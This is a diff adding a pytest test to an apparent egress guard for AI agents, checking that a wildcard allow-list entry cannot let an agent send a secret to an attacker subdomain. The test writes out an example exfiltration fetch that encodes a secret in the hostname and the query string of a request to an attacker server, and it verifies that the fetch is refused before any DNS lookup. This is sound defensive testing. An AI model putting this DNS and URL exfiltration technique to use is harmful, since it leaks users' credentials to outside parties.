@@ -345,6 +345,45 @@ async def test_allow_list_hosts_pass_and_other_agents_are_untouched(site: LocalS
         await w.fetch(site.url("/other"), agent="cli")
 
 
+class RecordingResolver(StaticResolver):
+    """A table's answers, and every name it was asked for: proof that no lookup was made."""
+
+    def __init__(self, table: dict[str, list[str]]) -> None:
+        super().__init__(table)
+        self.asked: list[str] = []
+
+    async def resolve(self, host: str) -> list[str]:
+        self.asked.append(host)
+        return await super().resolve(host)
+
+
+@pytest.mark.anyio
+async def test_a_wildcard_on_the_allow_list_does_not_skip_provenance(attacker: LocalServer) -> None:
+    """Anyone can make a host under a shared platform's domain (``*.readthedocs.io``): a
+    wildcard let the agent send a secret there, in the name looked up and in the request. A
+    host the allow list names exactly still passes; one its wildcard covers is refused
+    before any lookup."""
+    secret_host = "sk-live-4f9a.attacker.pages-platform.net"
+    resolver = RecordingResolver(
+        {secret_host: ["127.0.0.2"], "docs.pages-platform.net": ["127.0.0.2"]}
+    )
+    s = settings(
+        {"provenance": "session"},
+        policy={"allow": ["*.pages-platform.net", "docs.pages-platform.net"]},
+    )
+    async with Web(s, resolver, audit=MemoryAuditSink(), clock=FakeClock()) as w:
+        with pytest.raises(Refused) as err:
+            await w.fetch(
+                f"http://{secret_host}:{attacker.port}/?q={SECRET}", agent="bot", session="s1"
+            )
+        assert resolver.asked == [] and attacker.accepts == 0
+        await w.fetch(
+            f"http://docs.pages-platform.net:{attacker.port}/x", agent="bot", session="s1"
+        )
+    assert err.value.reason == "url_not_in_session"
+    assert resolver.asked == ["docs.pages-platform.net"] and attacker.accepts == 1
+
+
 @pytest.mark.anyio
 async def test_report_mode_logs_would_refuse(site: LocalServer, attacker: LocalServer) -> None:
     """In report mode the unseen URL is read, and the audit says enforce would refuse it."""
